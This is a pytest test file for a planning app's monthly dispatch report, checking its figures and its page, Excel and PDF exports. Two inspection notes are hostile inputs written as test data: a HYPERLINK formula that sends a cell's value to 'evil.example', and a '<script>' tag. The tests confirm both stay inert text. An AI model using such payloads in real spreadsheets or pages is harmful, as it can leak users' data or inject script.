"""The monthly dispatch report: figures from the audit history and inspections, as page, Excel, PDF.

The scenario is built through the same edit path planners use, with chosen times around the month's
edges in Beijing time (2021-07-31T15:00Z is 23:00 on 31 July there; 17:00Z is already 1 August), and
the expected figures are worked out here from the scenario, not by the report's own code.
"""

from __future__ import annotations

import io
import json
import shutil

import openpyxl
import pypdf
import pytest
from shapely.geometry import Point, mapping

from geo_app.core import editing
from geo_app.core.accounts import Actor
from geo_app.core.demo import load_layer_sources
from geo_app.core.monthly_report import monthly_report
from geo_app.core.monthly_report_files import TEXT_KEYS, report_pdf, report_workbook
from geo_app.layers import load_layers
from geo_app.storage import FeatureQuery, open_store

from conftest import ROOT, make_store_url

PLANNER = Actor("planner_li", 1, "planner", "session")
OFFICE = "临城街道"


@pytest.fixture
def layers_with_inspections():
    """The real layer definitions, inspections included (layers/inspections.toml)."""
    return load_layers(ROOT / "layers")


@pytest.fixture(params=["geopackage", pytest.param("postgis", marks=pytest.mark.postgis)])
def scenario(request, tmp_path, layers_with_inspections):
    store = open_store(make_store_url(request.param, tmp_path, request), layers_with_inspections)
    store.initialise()
    load_layer_sources(store)
    yield store, build_scenario(store)
    store.drop()
    store.close()


def edit(store, estate, at, **properties):
    version = store.get("estates", estate.id).version
    editing.apply_edit(store, PLANNER, "estates", estate.id, version=version, properties=properties,
                       reason="月调度核实", at=at)


FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def inspection(estate, at, verdict, checklist=None, problems=0, notes="<script>x</script>"):
    return {"properties": {"estate_id": estate.id, "estate_code": estate.properties["code"], "inspector": "insp_zhao",
                           "inspected_at": at, "verdict": verdict, "checklist": json.dumps(checklist or {}),
                           "problems": problems, "notes": notes},
            "geometry": mapping(Point(estate.geometry.centroid.x, estate.geometry.centroid.y))}


def build_scenario(store):
    mine = store.features("estates", FeatureQuery.where(street_office=OFFICE, status=["planned", "under_construction"],
                                                        order_by="code"))
    e1, e2, e3 = mine[:3]
    other = store.features("estates", FeatureQuery.where(street_office="常庄街道", limit=1))[0]
    edit(store, e1, "2021-06-10T02:00:00.000000Z", progress_pct=20)
    edit(store, e1, "2021-07-05T02:00:00.000000Z", progress_pct=50)
    edit(store, e1, "2021-08-03T02:00:00.000000Z", progress_pct=70)
    edit(store, e2, "2021-07-31T17:00:00.000000Z", status="completed")  # 1 August in Beijing
    edit(store, e3, "2021-07-31T15:00:00.000000Z", status="completed", progress_pct=100)  # 31 July 23:00
    with store.transaction() as w:
        w.insert("inspections", [
            inspection(e1, "2021-07-10T01:00:00Z", "pass"),
            inspection(e1, "2021-07-20T01:00:00Z", "issues", problems=2, notes=FORMULA_NOTE),
            inspection(e2, "2021-06-15T01:00:00Z", "fail", problems=1),
            inspection(e2, "2021-08-02T01:00:00Z", "pass"),
            inspection(e3, "2021-07-31T15:30:00Z", "pass", checklist={"roads": "problem", "pipes": "done"}),
            inspection(e3, "2021-06-30T15:30:00Z", "pass"),  # 30 June 23:30 Beijing: last month
            inspection(other, "2021-07-12T01:00:00Z", "fail", problems=3),
        ])
    return {"e1": e1, "e2": e2, "e3": e3, "all": [f for f in store.features(
        "estates", FeatureQuery.where(street_office=OFFICE, with_geometry=False))]}


def expected_status_counts(s) -> dict:
    counts = {}
    for estate in s["all"]:
        status = estate.properties["status"]
        if estate.id == s["e2"].id:
            status = s["e2"].properties["status"]  # its change came on 1 August, Beijing time
        counts[status] = counts.get(status, 0) + 1
    return counts


def test_report_figures_match_the_scenario(scenario):
    store, s = scenario
    report = monthly_report(store, "lincheng", 2021, 7)
    assert (report.office_name, report.month, report.previous_month) == (OFFICE, "2021-07", "2021-06")
    assert report.period_start == "2021-06-30T16:00:00.000000Z" and report.period_end == "2021-07-31T16:00:00.000000Z"
    assert {r["code"]: r["count"] for r in report.by_status if r["count"]} == expected_status_counts(s)
    assert report.total == len(s["all"])
    lines = {line.id: line for line in report.estates}
    assert (lines[s["e1"].id].progress_before, lines[s["e1"].id].progress_now,
            lines[s["e1"].id].progress_change) == (20, 50, 30)
    e3_before = s["e3"].properties["progress_pct"]
    assert (lines[s["e3"].id].progress_before, lines[s["e3"].id].progress_now) == (e3_before, 100)
    assert lines[s["e3"].id].status == "completed" and lines[s["e2"].id].status == s["e2"].properties["status"]
    assert {line.id for line in report.progress_changed} == {s["e1"].id, s["e3"].id}
    assert (report.inspections_this_month, report.estates_inspected) == (3, 2)
    problems = {p["code"]: p for p in report.problems}
    assert set(problems) == {s[k].properties["code"] for k in ("e1", "e2", "e3")}
    assert problems[s["e1"].properties["code"]]["verdict"] == "issues"
    assert problems[s["e2"].properties["code"]]["verdict"] == "fail"  # August's pass is after the month
    assert problems[s["e3"].properties["code"]]["problem_items"] == ["roads"]


def test_june_report_sees_june_values(scenario):
    store, s = scenario
    report = monthly_report(store, OFFICE, 2021, 6)
    line = next(line for line in report.estates if line.id == s["e1"].id)
    assert (line.progress_before, line.progress_now) == (s["e1"].properties["progress_pct"], 20)
    assert (report.inspections_this_month, report.estates_inspected) == (2, 2)  # e2 on 15 June, e3 on 30 June


TEXTS = {key: f"«{key}»" for key in TEXT_KEYS}


def test_excel_and_pdf_open_and_carry_the_figures(scenario):
    store, s = scenario
    report = monthly_report(store, "lincheng", 2021, 7)
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(report, TEXTS, {"issues": "发现问题"})))
    cells = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
    assert f"«title» · {OFFICE} · 2021-07" in cells
    # An inspector's note that looks like a formula is kept as text, never evaluated in Excel.
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
    assert "'" + FORMULA_NOTE in cells
    row = next(r for r in book.active.iter_rows(values_only=True) if r[0] == s["e1"].properties["code"]
               and r[2] == 20)
    assert row[2:5] == (20, 50, 30)
    status_rows = {r[0]: r[1] for r in book.active.iter_rows(values_only=True) if r[0] and r[1] is not None}
    assert status_rows["«total»"] == len(s["all"])
    assert status_rows["«inspections_done»"] == 3
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(report_pdf(report, TEXTS, {}))).pages)
    assert OFFICE in text and "2021-07" in text
    assert s["e1"].properties["name"] in text and "30.0" in text
    assert "<script>x</script>" in text  # notes printed as text, not taken as markup


def test_report_page_and_downloads_over_http(client):
    assert client.get("/reports/monthly?office=lincheng&month=2021-07").status_code in (302, 401)  # staff only
    from geo_app.core.accounts import Accounts

    accounts = Accounts(client.application.extensions["geo_app.store"].accounts)
    with client.session_transaction() as session:  # a signed-in viewer, as the sign-in form would start one
        session["sid"] = accounts.start_session(accounts.add_user("reader", "viewer", "Reader-Passw0rd-读者"), 1)
    page = client.get("/reports/monthly?office=lincheng&month=2021-07")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "月调度报表" in html and OFFICE in html
    assert 'id="no-inspections"' not in html  # the inspections layer exists (empty in the demo)
    xlsx = client.get("/reports/monthly?office=lincheng&month=2021-07&format=xlsx")
    assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
    pdf = client.get("/reports/monthly?office=临城街道&month=2021-07&format=pdf")
    assert pdf.status_code == 200 and pdf.data[:5] == b"%PDF-"
    text = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf.data)).pages)
    assert OFFICE in text and "暂无巡查记录" not in text
    assert client.get("/reports/monthly?office=lincheng&month=2021-13").status_code == 400
    assert client.get("/reports/monthly?office=nowhere&month=2021-07").status_code == 404
    assert client.get("/reports/monthly").status_code == 200  # the chooser



def test_without_an_inspections_layer_the_report_says_none_are_recorded(tmp_path):
    folder = tmp_path / "layers"
    shutil.copytree(ROOT / "layers", folder)
    (folder / "inspections.toml").unlink()  # an installation that does not record inspections
    store = open_store(f"gpkg://{tmp_path / 'plain.gpkg'}", load_layers(folder))
    store.initialise()
    load_layer_sources(store)
    try:
        report = monthly_report(store, OFFICE, 2021, 7)
        assert report.inspections_recorded is False and report.inspections_this_month is None
        text = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(report_pdf(report, TEXTS, {}))).pages)
        assert TEXTS["no_inspections"] in text
    finally:
        store.close()
